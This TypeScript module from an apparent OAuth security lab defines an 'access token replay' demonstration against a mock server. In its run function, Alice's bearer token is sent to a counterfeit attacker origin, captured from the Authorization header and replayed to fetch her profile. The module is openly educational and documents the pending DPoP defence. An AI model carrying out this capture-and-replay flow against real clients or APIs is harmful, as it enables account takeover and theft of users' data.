/**
 * Access token replay: a bearer token works for whoever holds it. A client tricked into sending
 * its token to a counterfeit API hands the attacker the victim's access.
 * @see [RFC 9700 §4.10](https://www.rfc-editor.org/rfc/rfc9700#section-4.10)
 * @see [RFC 9449](https://www.rfc-editor.org/rfc/rfc9449)
 */
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  callApi,
  callbackUri,
  discoverServer,
  publicClient,
  redeemCode,
  stolenToken,
  victimSignsIn,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'access-token-replay'
const app = publicClient('grantlab-lab-spa')
const scope = 'profile email orders:read'

export const accessTokenReplayAttack = defineAttack({
  id: attackId,
  title: 'Access token replay',
  goal: 'Use the victim’s access token at the real API, after getting the client to show it to a counterfeit one.',
  summary:
    'Alice’s app is tricked into calling an API that belongs to the attacker (a look-alike address in its settings, a compromised service it trusts). It sends Alice’s access token along, as it does to every API. The attacker replays the token at the real API, which cannot tell who sends it.',
  specs: [rfc(9700, '4.10'), rfc(9700, '4.9.1'), rfc(6750, '5.2'), rfc(9449)],
  actors: [
    attackActors.victim,
    attackActors.client,
    attackActors.as,
    attackActors.attacker,
    attackActors.rs,
  ],
  pending: {
    defence:
      'DPoP is being added to the mock server by another part of the project. Until it is there, this attack runs with the defence off: a bearer token, which the real API accepts from anyone. With DPoP the switch will make the app ask for a token bound to its key (the token’s cnf.jkt claim names the key, RFC 9449 §6). The counterfeit API then gets a proof signed for its own address only, and the real API refuses the replay: a DPoP-bound token sent as a bearer token is rejected (RFC 9449 §7.2), and the stolen proof names the wrong method and address (its htm and htu claims, RFC 9449 §4.3). That half is not shown here yet: nothing on this page claims a refusal the server did not make.',
  },
  defence: {
    label: 'Defence: DPoP-bound access token',
    explanation:
      'With DPoP the client proves, on every call, that it holds a private key: the token names the key’s thumbprint, and each request carries a fresh proof signed with it for that method and address. The proof the client sent to the counterfeit API names the counterfeit address; the attacker cannot sign one for the real API without the key.',
    spec: rfc(9449, '7'),
    side: 'client',
    whenOff: 'The client asks for a plain bearer token, as most clients do.',
  },
  clients: [
    {
      clientId: 'grantlab-lab-spa',
      when: 'always',
      note: 'A public, first-party app; the server is not weakened for it.',
    },
  ],
  steps: [
    {
      id: 'victim-signs-in',
      label: 'alice signs in, app gets a token',
      title: 'Alice signs in; the app gets an access token',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1'),
      explanation: 'A normal login with PKCE; the app receives a bearer access token for the API.',
    },
    {
      id: 'client-calls-counterfeit',
      label: 'GET /attacker/api (Bearer)',
      title: 'The app calls the counterfeit API with Alice’s token',
      from: 'client',
      to: 'attacker',
      kind: 'request',
      spec: rfc(9700, '4.9.1'),
      explanation:
        'The app believes the address is an API it may call, and sends the token in the Authorization header. The counterfeit API answers like an API and keeps the header.',
    },
    {
      id: 'attacker-replays',
      label: 'GET /api/profile (stolen token)',
      title: 'The attacker replays the token at the real API',
      from: 'attacker',
      to: 'rs',
      kind: 'request',
      spec: rfc(6750, '5.2'),
      explanation:
        'A bearer token is accepted from whoever presents it. The API checks the signature, the issuer, the audience, the expiry and the scope: all fine, the token is genuine.',
    },
  ],
  async run(ctx) {
    if (ctx.defence) {
      return {
        status: 'error',
        summary:
          'The DPoP half of this attack is not available yet: the mock server does not issue DPoP-bound tokens. Run it with the defence off.',
      }
    }
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const since = ctx.now()
    const tokens = await ctx.step('victim-signs-in', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      const signedIn = await victimSignsIn(ctx.victim, s, as, {
        clientId: app.client.client_id,
        redirectUri,
        scope,
      })
      const tokens = await redeemCode(s, as, app, signedIn, redirectUri)
      s.token(stolenToken('Alice’s access token', tokens.access_token))
      s.summary(`The app holds a ${tokens.token_type} access token for Alice.`)
      return tokens
    })
    const stolen = await ctx.step('client-calls-counterfeit', async (s) => {
      await callApi(s, ctx.attackerOrigin, '/attacker/api/profile', tokens.access_token)
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // This run's record (the lab knows the token it sent).
        (r) => r.channel === 'api' && r.headers?.authorization === `Bearer ${tokens.access_token}`,
      )
      const header = record.headers?.authorization ?? ''
      s.show({ label: 'The Authorization header the counterfeit API kept', value: header })
      s.summary('The attacker’s server kept Alice’s access token.')
      return header.replace(/^Bearer\s+/i, '')
    })
    const profile = await ctx.step('attacker-replays', async (s) => {
      const answer = await callApi(s, ctx.appOrigin, '/api/profile', stolen)
      if (answer.status !== 200) throw new Error(`The API refused the token (${answer.status}).`)
      s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
      s.summary('The real API accepted the stolen token from the attacker.')
      return answer.body
    })
    return {
      status: 'succeeded',
      summary:
        'The real API answered the attacker with Alice’s data: a bearer token works anywhere.',
      loot: {
        summary: 'Alice’s bearer access token, replayed by the attacker at the real API.',
        tokens: [stolenToken('Alice’s access token, as the attacker holds it', stolen)],
        values: [{ label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' }],
      },
    }
  },
})
